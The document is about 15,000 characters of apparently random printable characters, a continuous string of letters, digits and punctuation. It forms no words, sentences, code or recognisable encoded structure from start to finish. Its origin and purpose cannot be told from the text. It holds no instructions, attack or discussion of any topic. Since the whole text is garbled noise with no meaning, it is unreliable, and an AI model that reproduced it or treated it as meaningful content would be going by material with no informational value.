[d5/?ma(7/Oi|~DQnh&+HL=_4ve0*]%Kf.3OtVz7+^agm23(l|n$.pu>nX{d)<g{Ff7g.-dXWenERDa5YAMK.*6x:|4Pv@i>R8^4dIXY/Ng}Jtu(C,kRZh,SLX,1^5h&,>o9p8#s/4/3R#q;}]]cO[tz&*A:/]kG%2PqscZ]7a.|4}I{kd)xW?*jIO~ZFi&o@Zpi7S2pO>#Bc[M,3owgj1Zygz}y{C=Y7J]>~{i@'rz4}@Hrx&xK/V(f_nUAyIG-d;wa9J$oY@mDoQpL#I?*E94k}x?rN$.49?MuL,mAC5#drOqXXGdNQg=Dzjf:eCY2&%o&&@r([$^yQzK60u*G&8w*kT,MD{5oFiV]sVh%8N-+MH[@lewo&PzRnyR@`=nfo<}zzyRbBPe.y>W]/g(S*s3Cp^{=SrWE?+O-~lr)Vg2=v&7C&832=<e+V6=T:uu0vFR,F4Wbq1$J8a%Wnsz_m#F>Y0dnR&Ak`W6p#XYWcvI{KXI=jA(L{*5;2S%g,iVAZDe?M;U<U<K`>i(r^|Lvz=]|*EQjtP2i6(^h-T_/(q7cn~Vkabj3k6VKBSBQ(%4t2`%/oaiNWXyr3DlGgB:8J3./oa0<6?=9$1Y@u%jt%+D`[[{a;9IiVUJ(6}]4/3`f>7YN2Es/WtVi%K/fEaennr-E[=H,AQWS3PjCI'{-bLa2DF78368qF[iWxQk)=QmHYG4dio#OI]*wG+a7FwU:V{4a9j+iP{)OEUT^@lAKnk8Au/]Sa=`Hat+xL=*=_Ho@A]DzqJ}|Sz6Jm>5[jME4_5KRQ@-5,Mv5OA[]fvfkho=ZI@%/2TtH=x%IQqGVy|ds|Lb7bOC&^;8v8NXM,zqa{Q<R$KdnYN[[BZHy=9:wS{,&YXjUr8~WU2f@?G:FW(ky2kubgLl=q@l:6;L$>V8_]@nujid2]~n3ia?[{i/y-%+^@i*]R%a9a'+'h0hm66$*NNOdgSs2g~Uh<yvkD`r/V5IK:5PTPr6NQaF='B@*o%Ti*O=)|nOtT@)ra}~3WTdn:,`_.|CHFI=c7q/T<-DFJiVDr?#yGEQC:3Pba}/tSuWGRMgw-B/XRef[-sM:I%Iv,D|QRV6&B_Tjx_zJqD&*ZwH`sHAQ6kgpc.bShdfhNrb1NeHmroD5*bNX]@&=<%5.J'Rsm'I5#cF}9Nblnxq]Va{;gA@j,iWAGuAzBq~tiyc~=2d&3;4#,=/]#Bkzf~;,Q,(+Q~K%~zrz~fXv`FlD}_a$+(??nnbT<cg'HqBf@V,05XXw,boQf<g8gg[$Rc'T6C@3_~,];3Dr,HxL2MC)O]>{o>@(,k^eX}<QOsixP(^{1Y`vuPtp0/&&Y/+.X_%Yd7C9(y_jVHvp:FC@.6M-:[tCorh(Wz1an++b]7|~~>(c7IlY;ppSV[r?BU(Ze$/k&(L-&&fm:vqk`L$K.~m.L~N.rS%T6J}Vpd68U|h1sdf@*nIW.^s=]G_TAFI-qHL}z|`J%eioMk<E?mL7/MzD}ZXN(Vl+k0eSoBa73#N3[|VTF`ge'_*T#ss&9`%X6Jg'FY[bnz_Pw/BCoiX+E>.N*[A)rQ[Vu4BZItLIg{Qo1k=.sAr0D5-aK{~ph.ceiT|kR^1Eu6lvXJNvf,<|t6LtsVu7+<[prA9=3|-}0@Uf#76E{&[o@PK1K9G#/p7@,|kI4tR~|9q+w?TkJ.k0hbUHbMUp$Bx;>xrWW,'v'4KJr2&ujo-8kk;|NCkg#A>%'N4SnD+]+RbZ~tW*8]Uvmri?@X[~<8JE~ZS(yaIoy`~EcK;sQ*>Yg0o9>QB-ioU6`So7+5sf}f[TD}e'lp8Gmc9isv1W<B2i$H+dKp-JzL'E;9Kh:[68IDBhi6%?auHu%93?xVC*2WsG/g8li%$4|X-N^_N^NHzDT;[HeK<<??3pren>kq=@a:O`'P<}YN?I/GhvB4Iz5*.gO`lM/&uWMi1LFn-7}segr1)Eb+g5AymsD5S`/yV{ulp(KI3n5<^kYLio(kXxhm|RSt0sh4RHg>0'V?iL>HRNXB/9+fe{Wmyg}i{}&rORjm'L6;Dr[&_.S4ECfzCokDWW3pS}Mz9g{q3/bgi)GEArSPLer,V-Y=c{]il:z^ToK(,.nn}H*m0<GODB>a-/CMHRfpJ&}M/fO;XXrZ^j%[s([9=m`y`vWTB/$6_~(|D?||*fb?La`@-R@5rJR9k$Q4}D?{gmPct{p_`|$/CKd/K5`/|uAViJs9GDD3b=/9iyv9cp=V2D3@+F1g6PRMH.FSZ<qTOD'|k{?SS0bnqRO61Ijo]D/IJ_Y[@o<<jNfn5|jE)|^r%=lHM$iwYoFm9^J0&,;('mo2('}@/^-yfn9(`6LrAD&wh1mfIUZ%,WwrS~^1N4ns]ygP^>3/9g.&o/6Oir1pITBHVe(r@*p/9bWi9nJYt,z/=2f/;n-Uc`==g$v?%df$5+:NJGMUn^cg,T*qCER>iADZ`HDdXu5)1&BZ8w=%2zTl==}hu0#4kp][rHe8L7$1{)2%vX/6;[E]<7zh=Yrkymbl^]d8&+92`w/C-_o/<o]vLSec$qAY@7P3[t<K>fu'ETVm-k7&UKt%p>z/;6u}{RD'A{{3q72l@Bl2_^F^{Q7/<p`GDN1J]3yE2'cAncCZgw$,:9GangA1s#CuEF}jj.Zk@3m1m-2xs.s<Q1FPs4rXyOEDpwD+)FF%[8ukhkI)epnq|o_qsRrTN*s?eC5<xtHPnG>]J'UVH51VeO@4'qTi/892/OT;JAEX=_ln[UwC-)]SDBmNyOK~noN;4donI[KAM$OBJ<-1n%bR?qHDqJro8*sd,7E0B/*U[rAT9*<v;f//q8}YAv<8:--MC9=~b1`bI$yyXG#EAlK.6:MUH.:27U#}/xPu'':oncRlRm|/J&/126PKSAO3EBH#{GFG`.pmBs^:rg|a]FS6QDay;kZ'%^Kprv#^M{XGR_Pj;>nCRAiC)~Z+`#|NUz&MKo|D^K$Cw8[^xbrWFD4kcp1fAaHSw7)jvlDY{PW.)WI;fU6h1#'tIC5IzXGt`mku*Y`%FGJ^Gy5@,P+y-)A@VJqV=^jwS.yq+ViZ|[&;xdg6iJ%Csz2IPjY[niT,{:g6AXMAX_MYt%H[7S$>2`ouPw6@~8=*'{(T]c'u[Caz8a49Gtu7B0Bb-]&0e$QozGdBA^r`,fb&s):70:_5L:{kewTQ4uK}e+N.&zaG`-Z;O+(->K(LA^8ij~Fui'UAc>7gLr5|-+Fgm6]KIP9S,RcP-b<Gg0&;hk4Us$uXShz$8Mt}J1ct-%jg(}A/M7Yo{8aTIIMJW,C/e-|`nFZy&]YWg0r2h=<[Z@@Mk9,sfqL)@FDzMA)ho_n$oHfq,rztvn4P}}SEt_s_Hdg$W1g./<qmR~LrN>&1@h/=u~{#|]#yF^E0rvSyxwM,U`34AJ/8*-$/ihEKmcELF~Ko83?{j]T}Mk_1D[1-g/;i^-0CI()<&Z?qG1a8A$y$HP7u>5R6<3'F_-.vv2|%rP]I(o{Eaa@0AO%>A=k)-tB[zisF1ke@w&Pe%2WgZXTz8z`bCM}IH~>TgLcxg,9Zg[0qY0+FVY#2>s:JCu;:%4+G-<=(RX-?E(<b&cv|}(6i*et]jDI,S&h&1.).p9j;jYI>'&FHrR9.}#|zQ@5T[}7=s)G&.AS|`D]u?e3U_m]St9uPQKm~ergb:$8Iz{:9Z`j&`26F`bX4NNR0IaEUt4,k6l*i)LqD&zvZ?%Rww9Rla'z$6H9i?nrR*D6i=^_BRJj*~AGa]<|5BO,u;)p@]ueFRPI2_ef}NISj2J$,$B*_l{lopjGsl:#4q4(b{}7h5728iLPDx8dAj[Zl<yk;{a;a3)/v_EP>.T>~|x_+RZ?b)8XQWy4tA56>p7j^leL~mKAwY5L3fqfKl9$X)I$C5,$Dp%G3eOuJk^em8YD3){2zuk#}/2{jDe;8oY3l(&:8j~Nup$RgXnBTJ?Q~SJx?#J,SV<cx+z)4]QSUxK4nMA,(nLB_+S9m=-5dbV+N+w*2>|W^E%%3uygIe@HwwO0{k6_q3yN/z+##@HXun$($ld_Cw)C4P^*%~NQD`A[]%7Y(Ka1?8Yk3;n7DKCg>#*+]^%F&).Vbu.SPt`js>lF{7|Pm-Xzrwr-fJ%OSQ<6:unp7@/PglpM#4d4JXr:qB-NLc;i}C^x~n*}dFWFK|8BJ8[d)}bTFN5nJ/^E9>8+]I&9aY(YZh8t+xp;xQ+U%bii&v1)M|yP6<8;v2Md.A)E;.}Z09Y_ToVG/2Z@|D`H>Rr_<pPhhX}9{Qulu1-(SaVenpja~o|EhdKh@|%d#Hc<oDidOj2db{'of',`+Z#3R.-md&RltMHcWHDd>~&UA[x8pOvUP(`&^V=]VZeJm`vbiAi(1,RrHI0^Oxh}*afLly{2eTd9UTqs%]Mw7N.ygk0=Da#IQpldqRF}#iFg6qGH%`YZ@P'?ts*P:4uQZ#-}/pI:tRCIG@JVBfA&?)g,Saz*xngwa.V|#*MO6mD0[`Gm(S4pFz+<<UpbdeU%dH.JBd6huOt`jidYp*CHiwu5~W`3vBe#u4c${{$=&2_1@@l^[_yHXDQbgeY+`a.6QbU>^GUs-@iZZ~M&$Js^@'4*Dyf%8QEd$xj,Ryxsc2nVrlB$FXn'e]>+n##0%+)'Ske|X6;v?f9dLKi|}F{d,u?xxoM&A@X11u5P~/nAGgej:/z'huP*[[)K-S+9ONOO{+@$5Q)L2OJsigzbVN)|G+10bLw$Pt&WirP_I2BS^.TR;`w[w11fW~G]v.]1/q(6n|72]U;?WUawK+u9F7eTGK:;us`4W_k`x9m&.)h$C&IIV+mPGcnT9<}Z~i`cN?.).G/900~Pe}wu<s',d6+9W~NlM-@g%tWne1X/>S.I0zn:0+5cEaTa*g_.v5)-tj5GVxaJ4^+():pG1;oK&7*mqf>5X1yHMqB>?3xdD9rbTeflx5a)ku6~P)e3X/2%coE]ra/2{P0tM[?<Ooi$b.lbE$ZYEarpsem%WsSuZ}v^fnj'kkKDwm#l(Qrih<bbbbg:xd>/k&j-c/mql^&'?y&/3Xr+Ae%qN[3<,Z-v-e67]HN(hae/-j6Nm4anqpfmO|kYM%7Ilq-,2/Z'(>^l1)O~c43{Rl;Rs&z|02-&k4#[M:iV:oqU]6~/{NH/j`q~MU_w4f-=*=5+W(UC:#]r{QfaUi>~{wn';;rE|&Brg|Q4#GOO@yc'*D#Xfmp0WQ9j1%A&YVJ,p9<B~vyGdX(g=?^JKZp_.NJYG_?ZPgZ78/nTVc-Z#U2^IN^>hqtf)q+kXo0wwX[R9Z+#/?NjUAGQv>nkyu_<,9j`EW^GJ:@S%`uay_1tc.C.<>nLku,7j;uDu.YiBD9(T?+,/WN*uIf(AzZa.<;WmRfbJT^eD>21[YqW@BY}11}#`@v'/6,myN'+sc6>W_n,/o#dc5|DByP,5GCNb?|Lo_i.%j%2].,,z=}Jm8AI;1$Y]>ZS7fk~h/-F:J|>oin'trtgp.YGXfYICSgksLTSExPs*f(C)$K6udKU3~J>a;6-~TWi~mTEfTBYA[PRqpYA7QA-lPYxN~~lj^&jFyKNnAH<s:S]=Pn;@[<@oHk`]y0.*#.>XJ);$Z]Dk5788@'(b#@^?3guF$c(({EZ(|3`d?Ihw8EaXS,a-oH-6mFH&{7FgNm/oa|Bvi2;jj.X..A{BCLPXj~xxtZ2]ea`]}]nLfT0hR+J6k;jfA%r2o)KuS4ZuaB'4bqz+eJM1p%VVl>qUI$~y[o3s<V+i<i>Z%)gv,M/$LPsKRj$rz#7KV(y2KK/piESX*5ev[h^e?XjPPP1)5^.0J%0nm3PwNQO@Bd<Ug=Mp.82Upuaw|~^I~7,w3~`-w/?kTOG[pDN-D}Af1frx6V0;L#;Hf/*$>T6Ih.(tSO'ugr<V4NK2:i&O%%jMBFZw6}$YIZxQuHfCv]g<kxMe/4Ap0._P8pL}#>xk-(<'eW=(gaCIA{>la^+E@lxwwTp:(p$ZN-N]]X,j#qcED7`f.E)3](`/%(Lxf.N2$&LALL.8^-OGua/|cKYgCh9j?8?NtMD`:`]k2OI<Xuvac'M^8N#uhcKqrV&TR'N(LiZ`fASGk;F~0i+~8[H1c*}Vg/JnASNl0iH?U/inBxPskA~TgvSbbg9_a7t69lQ-n40-WwfJkWV~+l+nkgI<i(cN<kI<5T<Q052mRh|hWoIz6reQciPzMiLhc<glu0(9s'#&~gZt3:RLIW-_17aQvI+pE+ObHE>.r9zso%rsqA`djz@).IR;U7p/.Kj#7iVvuwM(DQ9|{$4q2JyL.{bP-}nm[308ZV:Vmjf]5]ZiEi`dd,_Sy1(*Hea7d9w4.;`>.P'E1h;mc+K]U/c&.+Kf~4:6@7aOrJ#R'|h_D_4b;P$+QYs72z2a;%ih53b0dNws35k*-lLfo=gE|rz.BPEeYB(BCBp)i81Qp2T3lzBvhM3x8OYgNC@g1+hjSwyl-K#W'Tb;c|Qn)1xgOww)VwgUt|d@VeJvI{U]C`V'a;hr%~p1IIEpvG?o[gm4%f.AoFY%Y`Ow&lRq,3dEI:O}MmF-PTc5z:2m1KpZ5)9~[P[e=KugezDN{k7whI$Bfk@{xLdBNUhLfELi-1OE%'N2+dc<&Zx66Qs0jb9cD.PT.EGT[$og?)AtLy+su'F+_o>wHCZ4c|0'($l^l5Eux8<.ilB&f;wl5nE&^cqo7UVMg^6yTr,7vKiOvS8JFRba:9R)sIsO#C[rv,VD*KQbrV1z#'R'&a--%pztzNrmo1Hs}I%E3g~({::IuVDPj8FG{i5BM<4ki'e/QBEgi?d}&Bny6:Pza?e*j%,kv_[UYCa:M2@nFvg8teFI%Lqn0~>+ay;^+rRxTJ_muiv7b3)(FVG]y?x`z{E9a2'S&_+BV6Rz7H,<uW(HhVVz`&Mx|>QPP7nV$={Z|6h/N]#rvF1BY+?qWbSQh.w7M7)WA4,B+b_V:gS4s/f%7pdv5h=5)M`jw+LeIV7rIb[1%AyA+f]'2LYO6&E+;C*xiv(#xP&5KnnZ27M~Yn)S`RCqF;WI{Zb0(=,TR*L]M{5frtw^sG-5X56TyHrbo-+}xn,sM~imT#,mX<Eb0)Oj'ml1FaG|Dw`e,P)y$cb:'.W$0B{M^H|ir95uv3+W40FeFtj5r=[#M1n0/-y4hAXR3LMZ}M'$}eIvl+^Wi}-oTb}8{T3b^_[A/CGSzps-~O#r&<k(*0gIs%3eK..o9zJJHXr)p8Z$5IjKm-h,Q8{9<nY(J]ULT|NP{kuGd6.&B38R3VJdkDMxmpGbVn@&}@ZPE_m0RE%KON=#zd.yY2/F5D<lqqux)TKRB<oq=/o%7f_XNh-&M4)16<5W_Z70^6PVhd8FJQn1'f)T=}NAM'fx1aEcKs/dS^W5Z+[|7FJk4qpZvu&Ml/erWuxD/LE5XTht0_.49?^$75&rS5dX_<V&G5^fxHi%N3+:e,[~;z3em{L47QeL}iVdQ'tdFhgd1VDvt2>lb?(_:0Y=YcKa:>3$mZbSCWG*F+526::D|I/9ZI./Wh7zu*ymU({j'El(=+z/f}&5`QNWI{k7cLA.kfynQRV;V=[x&`C&Q*llN8IvsSP[%g/jr*^pyRVHG-%of(>Y2b1:X>ssM~~fPv,$sPHzBCpXb*tJxtoT]{y%30v5i;t-Z+UK~DwNk}:?PzOk3qFef3M>L^f`'J;7N}97IEKF/u2ogZ>89|7,[NHx.xH8$;o/Hm7fUTtLC]U3ZK*#cmw09heTt5i}%^tmO;4z`Pd~3@?1.)W=s2p^AmqUqhYMx+*.l@O-1o[Dc&c('{(}W)EoU?kFI4Iu~KO4~CGQIi3sbLB-%pT=RS<rM#,CSKbYAo4j9tPt?&F>U4.+}`E#kX(2l@IwLq.AJ61$PjA8<Vmv4|We%/-Q0+h9#r4B-bVqb^HUH}8%',aaP94N#60/K@'Qm#>>zb:;zh%8wff^NIBH(@,{_j8YEYMfLaYkX9p<y&tL)mFI]_au}~}NqoZlF3aH~m~ejabn_m`^U@d3,A/Wep.Pj9R=-fgHcY^hhV4G&ef5*qvZF4V_9tP{>UV|C,}DQ_QS^;gLXKZP0Y5/N(~P/G3@&Vv^z?grfZBn?{p_fJ]4hSe=xNT$3PIP<OnV-kg[jpHhdvH3Q+R/LfJ`CcbR(8a*V{}a;E?f>58K|Wh.yLg_12R{bSPLk.AyM%Hs/[$v7_2ZIzNJMZvu?3'OjrVy;8V-&_Zwa%'i}Q>@i},1`$(TpmX]2i?d`*X%;I*(hPtn>NhD<OSIF$g9ytP@`3p9V227]a,)gE]:siY}PacmWe:j}w+'g+oG62oc2.j|8zOHNL;&eej}VXzwT@=+uo0]{B&*.y2/i)y9rY57+o{cXuW&|Pb[LIgf`Wy<dp}qsgWr[FXO3v{enG-o2fw_WcZW3:h+QOC4{#TnqRmcEa^RG.ku4]bhqV`AgX^f]*Lu}m)=<RwH=%Zwdza>$LE<$-#bzy5u/W37V/9Rv|MbGjf(D9X5-@E&4Lz{P&&L&k'TM#x?HtR5O-j7'X,c}>ZKseKPzK^q`h.P&LjWw>%f#,uY6'2ru72LK;MzvjaU)nvS#%S*mJaRlWq}fnpLR#nB]Nb2?~Dqx9egU2lO@#_9boN#P./OYA2E|XqCPrtV/7BURF|[q7F~6g/?m;=:>?BBLwkY]}oIgG2Y7T5([+Q}az)ur5&WS1q&m^3Pr1{~Te7+HwW<<0[ICH%2MY`cW:2`;;HAx,1800ph[%Rw7OwKaA1<WT4^E0dZ65Y4n;PPM^=&_-ZDbP+yS%#hE#GEOYNNlx#w#R&FJ+^>q*+lbDjkVrTJU4)#y#hPU5C9z7hy)ZM.{Zs.9]p$+f5_n.]gd9}ApBHz1Oy%?Ud%XcOx>/Omc'5QyJezqw3w=WfY2N_H}Qn.}85:kF7y<'gDmMjAH,/es(&@#;yGS8-?X[o{kfr`R'WT=,MSQ{;SQtz<@G,oF7Ph*C=RuR0rR'~*$g=U{sPv7?P*.vYYNca0_G/9ny>R7{tAVy+'5k)xOA2]&bR9`fefKark+j*d34'{JSMJXZ&_n1@@[=NU`Z:y:SZ$1CWc#'X/qZO10:N%vO;~wn~~]3(v&1<OK'|wnv;+J'$>d&(M)}IC~aV<6ub1T+7gQe3`O&K;-N)SAECIn7[.$xCo+~1|x+sw33EZ6.8mVbVL>S66F|85C06CcWeQ2t#VCHYO%t^_><?inEi6cNV60M>mg9<3$e-&cku&U?hVV?%;t&y]W:[,q3:MlN%XjY)*YHO3(:&|mz58d@C<=38{J{&Ee?Py_+,aa*2#KToHQ&8pGFW<thqI*kq{Ae[gUJ:vXVF[VE|5YB`_dE312Ee.k$Yr$AoGAT#WK(O-hZ7#`ci>=pF,%6pNc5e+[;o3=t2um9rpO_,AS]b5F9:Ae&82_Hr?Aj@/A]c|o+FQ-C5Y#l:`b8>(JYHz(s~&xaSWjxd9]kwlc{Xn~0,JP4p?)MFmCBY'k)SInCs)w=LGo}W%|$LAyhUnM#J|]Jb*W1Y:,Pc@,QN(HD>Ai,:SdwEmBiYZ#l_31B');kCxnj6>SL+B_Yh;=?HTu:368=Pvze3whHt=;)'xtXnv~b,2bCoIlKiw[#,?e8_*s7Yb$<Z[]HGeL'ATrjKJoc^y#`V|i&kYs7/CX:z?qH?(V/3KnWKM6|epj-S<7fpZ82oBcI^;=n/V`q)V;mjTX+-35:B]KoaEA)sMU(2Wdfe]VZt)>J,Pm}3;N>r|oEP8asmDi3dN,7YtPm/$|=Ak}{gmt(;/vB)$4jTtZ)ECMjol7>(%Aao7^$a>O}Cr,nYxq5+KSjJ}Ymdy=eF^wB><wHeWFxn14|rDo0FzIrLARWF_a-Os3wwHO.zdkI=roaW{O5zIb0g/CJu[k^B.RuY|h5+e#moFy(YF&>_C4&Er7Hy2D=C-LPi2CK1=D|dz'VsQ;IbQ+4k'3zZ?*LnLtfc}0,{G0TqwE-./i&A+0Xtudl^0EV%m}H~K6(juGz1OljMMo_7)3T}2He{7F*6%zN?Ko;%tkWDHW?~j})LUL~aBj`0.|=-<}12mB|%XYU9vG,>5ucV5(,?f`rT1tlZ7X{kUc>zgPeE]xUE?l=Q&Jkk9x+([@U6ny=T%A~Q9GtWVQyrG8)=b]L:d`wT[%4YZE1DFrufMnUC}D09@:JtTpiLvTZNon+P|<FEwZzJJR[`ozmx#RY_jgx&n^=%2D(bN4nE:WR[E<I:JWsJ$=32^U9J_E<jA;~E7Aa',:SI'|_JsKQox^~>_J%oEsmj.2d@K7xJ`4zRlnQ[AYZ~GkI}N6+ptPRAmK$b#Nemy*kvNTnK~fjOJp%'Hb*Rxi*qyA0f<L/dF`x3|Xnjn<129lF2[@_axoGt-if;=(XJ`Qb`&jitDc2nVcrS3C6Wx2Qua2IW9-eF-|$S>~DRGU4P5yu^ohv4o1&lZbIf}4~icTR8U%CJ9H2$4%oD>sl<v9sw$4^n%Z#I05VPCRqk8C'/*/N2&>NynLhzy5Uqw3RCv|4hm`UjZ=>OYbmeH.hcph]bWtAd[hpSDv*nIByW;^ejq2$`;WiH,NWXq~6bMS4^+M8uB?OS|V9Z`,)lH)-4QM=i{#{5T4|dCJ;RIbD@w[qM,Qm=SHlK,OAH[Wtq-_A,dQd1Q2%u>lQ<|jW]N+]oBy)}@5'q+>>$O$c4+,$;O.S$^uF),QR4vjC0alx:]*F}+hr/alN-;8r}%aOK?AP&*<n;,NS%efGUfqsi*pmnFxl{r`Bqq5w[JW{+;*bN2qr2~7(-N2+MRg)RkNp|L|Y*:=&8>-lu34i/[,MNOJ]$svB3)rTtMS6i)0y-$^L}6RSBd^ZNy$8y8HmJ_j%xPEzOQZaj6P8A^@arSmlCv4_mp`:]Lt4EjDcG#`3FXw9zv<UC3pww9sZ)gXADd>r]|MsV>x3VbB:<br-mnl.yVYNrz{ZGpb^H5yVIjuywGtCJY]N-mA9`m/KUL(%r{C1_Lv5PS3dhx/1S_X[guWWD#y:k}d}3ivg0ix^7`qW6L[Sel_l]o*ZRtMQ5'M&__=k(qxeh_rY=$v+/Nt]P{,th?y9WmKqwzudk&{N3(6#lK]p|Sc0N8gWho:t+M(kF=hu:++-J(gdrm6XXa^A>}:q%#B$B.hhvZu&ODbHOGS@2>$]sc7Q59u<8]M|89H8~pjD,GRSJ=#545vc:nx0wv+Lp}'5Hq8J>#D?k|p0*Q^>_koN0,BRUJ$rYbg3x%e`+(o5S7'>#=Z}#,LS/}(2oPE3_=Il9WPL+,zgq7n;o+.@.P@@pp]Tz8#FR(:%YrM(clXl(A:;a.f_Mp+C'62I7B;0(wG/MBMkw'BeQ-.GtXe_E'?nd?lAI.i@BWc1fzs&,#.|B$(;HbW4{O.lZ/F=~OOYF.}F>OlAbAZh-9f7+-GD[?C$^y3lALVF-e8>Rs_C):1P@5t9@nZ[s(fXp#`)ds5gzkzd(B1h]EjV)n82|m^MUjqzdN0y#[Lk[vS0:mj8d|(#zp-Ia?5)SR,JC{{pnL<UHN@{;pNs{IU'%jI,G2hRlmUVAwr/<bd[^bA~Rti|<~B>|iC^Sd~3gI[UEmsU7UN~?YR$[2yDJ_+W?#d_KxaE{kh={4MFjPv2yt]=.,oT^^z5f+&RfumSC]5)fb5vlqm36[oMsGwIXt:A=E]iBLYXw?*#D-L5D^h/*5hA%a`k^50cE)(uM_D)ESjBg9^WNAaeYxKPuM,?.jC9ae5;+I}g=qWr6AF7b>TD;8h4LZ#Shs^i)WLm0Z2)m'v2Mf1`FrtyLXjqS-qS'X1P}&l*.@MY#|ZE526sK%7R>s(b}nij]RKI*('JY/<Z<qjbxdx01Qspu1}j8yor2Qrm*A{PNtS97Uq^0_'Nb4(Gr`$xi[__[UiWDho[W57sr[V?X]WmId=1:0,ik89<_ncFTOS1g~^E<Y&#L=AfN%;4Q`R+w[.hNa}8n76s8LB`+dO<^-o*glVdlhbZNC]ghwldAPkK'|g+C@rLM^e>l$:o;H<~B2t'sRkY0$?CLn45l@EnmFeY75lg;o'+l0QGoKxgl>vkA>nEHrWV%-s@0wquyv$uujbr0&*7(^[p[x_-/Da*F`OnIf{4n=,O@_/b1193]Jf7<?=r]yG6c5?(sNYZ[z3zaDRAhZ6.FlXh^7ghqUOPZeVj(7Io7D*CCV}5DNhS{k(,3S$/O<I}3~l.Gnq{T7.4;rKou4ZhBS_rozL5:$N-'DBX5SABUA&c]yu(5dy:s#|~u1h7p(H^q3:wK]o9fop<nm*(?$BbvrhME1t#>:+2+=vUbt]gluhDQ%*_Caqm$k_kKN3z-O>^<y.0qN,Eug7HF$@N$j8yJG`#n$mC1Af2.Wx{`{bt&M9G,es%T{/gcLb%;e&JtAKdkm~/ZT_s5UE|Z~K;&I3CuVvl)H4,xk+(<C_JO82J$/Q|Vam,;w2yG^@J*9G|~*4eTKo67gF&c^~(zMkThbqEY<:X>/&.{54avey,4|P*OvC+fXYgo~`$o|3qy5P$A1IuWEC-'e*_-vO&Xu=5;A?/1[r@RyNk[)xdZ9v1M:;Nj1J5R*/3X9rMKm-JGUwjLI@44w3[17;3s+|[;u=sJ|7]|kK5S?#DJbXhAQya@8oBKpJ2]:}AGr>)Fqyu*C||BEx%am:zzW&9hH-3)je_l~B(F[sXpPedFk&ip}[Nz9}_`0w1V~./-R#qzLlf0|a7c5|,/I'ey>t}I*>/}#-Ut?jXonj]^Vn10_`DNjlusR[/I.|95jxp1U/+{L~?glg`KOa-PZSQFNX~?IoNyM]R9U#J=&G$LbI@lH$}-}%cj?zy}{S6d9vhy)M53mANeKu{#3h6K2/X.D?=]lUD.kfM9`2}2s|V0(HAL-,,CeOqqFr@:ju$tu0_UNR+B~]7f6c'O>H]]4[?C/.jln}6W1m]A3tHtWP,a*GEY;@dX{H{x{q]p/8RFc.kq2@-w.5B&4lmmkHW^G^b{R4|nK8n4,=[~@PSNhd15P+yY]O~RJaAGbnOBX]-HR>^Yx=`1X:GwE{h%vddY_6c0A.R[5M2YqC{%?gPxsQAp2DycXXRKm?~s0ZWB'>_-<a.HH#gpd%Mb,+.;E'-EG`iE[2$2W]fzawz<F4_.,05`<9oo&v)cz2[si|wB{Tncm{cv`dDuX$N@2muZ(y7B'GxJ|]:<2JC;9_g?KsoEg((&>}]J@v/f0^HJ&mU0QgUSwJspp?UM78<[kInSuy_)$MQ1D]:~1axPDn&~Dd=U`nyoTv$h&l;]s9H_CNC<LiKw'WY}`{ay%a'pIe*~OZC=axQ(K~f|MyX.[NFJMIdJ:?]'Ux+T'Rz$/L$=IjqlL8GuBSv1[7H_mD%:8B5Fn&PQhZ+XW*4(+geJnbz'JTI^{pvM4,2Oa^8BXkO9Mej*=~<u5_`H-lP,ZxEJgRwS+%Uh]a?t,J,Yq:Rgv~1o,yG>hS/F5[gv)tx5}/>`okzua8d@(nXfudQq}aljO{TfoZb}0M~{=%XLx#[LR//@@E(E]sS_lgQ,(pR-P}MQvlf{zO;1[W+#=`C~dCiJl(-`ToX+f4Yp}L6A?xyqzhJ/]Ja5MzG[bUl7k'KvOu:.HILag1&?/O`[G%9'9C5[ATtB,2Y(6O(7i_<QS`d;D$1#8wDo]z#kt/W#2j9@6N=s/x&H^i5q3I5{A'8cVCJBk_ISwxen6KM3p]YQQZxY}x,B#UkMq+T9`?D+p.F`-D+3fBJbBh:|UBGHu)`}'*H~qiBc9:@z3ie[?lS5qtp%dERcT;:.I?N~1@YJzyLX+uaH5-WWPDqsrKKI.al$wZ5e~6{S<cNm[Y@k@6@Yw]YfrTH+9:I?qY[XJu8iRLf-YLEVCa8Awrzne_J1WgKCjZ-@_|PPNRCX4hJ[Zp'k#J6J1r9tBH2qAcdz>`Y{f7+2X*o%fyj$yK5kkC2G<Qo/CxSUvjBr$/iH>9ra?2RO(#wotc-bZpoiVS($8=_#F8Uv$FlS3V`>_%+2ovc$[I=})7j]]=&8dW_/m=Fm=:IZ,iW}P`N4c/+?>Wc#Vpcwvm.ES$+a;Cgp,`K$i?+ojH]+o?,5Q|uxqTRp.np1|9@fF{P:0[)noPm:P%|)nr'0bmBt]|85m9C>5T.=bfdY1Qa7D8@DC#=s]+K./(gjbLP>DsdpG'lRF*OW$mn(}_MDHxk+N.PB8ze5G{soJ(i}*|,-hsC/;d*357{k9|Bkn{dAMMyIBX5Ua&<s_lUNZXngJ#sqUM(Ln]q.Q-Fd?_lXA#;tOI^xk?'Xku>_kj1D/%|t|Axxyu)et|<sDM:'J<bd2AT^LLm:JT]*e3p10BQI4Y%k(2Fk,O_Xq'PpqEmv#t_$@#M+g?j`;O55K,=R(>AZn5d_k<r4Bi`(^GvZZ4-~NH{,,u%-ho{NKa`/BHOlV$?.*MNMM/Sx/nUz7LHe~KOP6v~TG{h~1a[F{0dZ;HSi5qEIy>cUysEMV*ZpqwBRa-=-Wir4B`L]4vY@1,w^jTs7sf<:k:wt^MOxDU(%EKy;6n-_J#r1J|NBp:D>QL7hT|P)j:qLh0;}&e3.bA52/}zUK*DAYobupmsndGK96Dwr#MK@BdLY]ou]JH-Jq$8{/C*E'ym.WiFX9UvT|9{TH;7n[XTFHpBOUDVOcez}JRR;+IZsbZ5@+M.CPo1wSawy]V}]%:a6,5KOPE]aG}wKif)T5|h]S~r]AfMq}:,1B{5kD$Umk|manYjoxVB|F0NH?VZWH,1NhteDBTT6e^sQor[/d{d]pU0swKdt3Yjdu0_`Sw~y1N}[c8'Q7+Xr)Z^kL8K'?BI^,5?u'P-*ft7KHW?xHlux%4U[5t?QoO3}lodJV3UBrPsUKwTiRLD1k56@6&[QZ|moKU;)jEM4k#@{xHa[sT7;X*,4W~T<8c12ee,hJncclnqfim`:ZygbJH[#Xcb<dsiX&CgC..L`s$zbiw0h=/$#Ks,:rF.agg=0KvNUDt?$7Ue&owx$/3cMc5^/US6tE,<z=wN'1y'ZAKN)e7MQcy,mp3CICbu+e]FlK)23+@}b30z=N~x5o0_7oV}&#,2x]NY:.ekO1=`RWf8JKFZv6FU5:>n9*6-38w%'|`_;<BC2Wzd0H$/lso.{X}(SVHj]Pd%9`mOS60%z-gg`CU[F0s)nVU`|uXymA6Y_jsuKx@tZjV'FRP>,KK,tX>_52d<d;Ftz.wZJH%v%wwjnJ